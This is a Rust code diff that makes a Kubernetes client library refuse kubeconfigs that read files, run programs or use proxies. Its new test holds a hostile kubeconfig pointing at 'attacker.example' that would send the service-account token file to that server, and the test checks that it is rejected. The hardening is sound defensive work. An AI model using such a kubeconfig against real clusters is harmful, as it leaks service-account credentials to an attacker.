@@ -2,10 +2,7 @@
 
 use std::time::Duration;
 
-use kube::{
-    Client, Config,
-    config::{KubeConfigOptions, Kubeconfig},
-};
+use kube::{Client, Config, config::KubeConfigOptions};
 
 use crate::Error;
 
@@ -34,12 +31,11 @@ impl Default for ClientTimeouts {
     }
 }
 
-/// Parses a kubeconfig (YAML) into a client config for its current context.
+/// Parses a kubeconfig (YAML) into a client config for its current context. The kubeconfig must be plain
+/// data ([`crate::kubeconfig::parse_inline`]): one that names a file, a program or a proxy is refused before
+/// anything reads it.
 pub async fn config_from_kubeconfig_yaml(yaml: &str, timeouts: ClientTimeouts) -> Result<Config, Error> {
-    let kubeconfig = Kubeconfig::from_yaml(yaml).map_err(|source| Error::Kubeconfig {
-        what: "is not valid YAML",
-        source,
-    })?;
+    let kubeconfig = crate::kubeconfig::parse_inline(yaml)?;
     let mut config = Config::from_custom_kubeconfig(kubeconfig, &KubeConfigOptions::default())
         .await
         .map_err(|source| Error::Kubeconfig {
@@ -152,6 +148,26 @@ mod tests {
             .err()
             .expect("error");
         assert!(error.to_string().contains("cannot be used"), "{error}");
+    }
+
+    #[tokio::test]
+    async fn a_kubeconfig_that_reads_files_or_runs_programs_builds_no_client() {
+        // The path of this process's own service-account token: a client built from this kubeconfig would
+        // send it to the kubeconfig's server.
+        let yaml = "apiVersion: v1
+kind: Config
+clusters: [{name: t, cluster: {server: 'https://attacker.example:6443'}}]
+users: [{name: t, user: {tokenFile: /var/run/secrets/kubernetes.io/serviceaccount/token}}]
+contexts: [{name: t, context: {cluster: t, user: t}}]
+current-context: t
+";
+        let error = config_from_kubeconfig_yaml(yaml, ClientTimeouts::default())
+            .await
+            .expect_err("refused");
+        assert!(
+            matches!(&error, Error::KubeconfigRefused { field, .. } if field == "users[t].tokenFile"),
+            "{error}"
+        );
     }
 
     #[tokio::test]
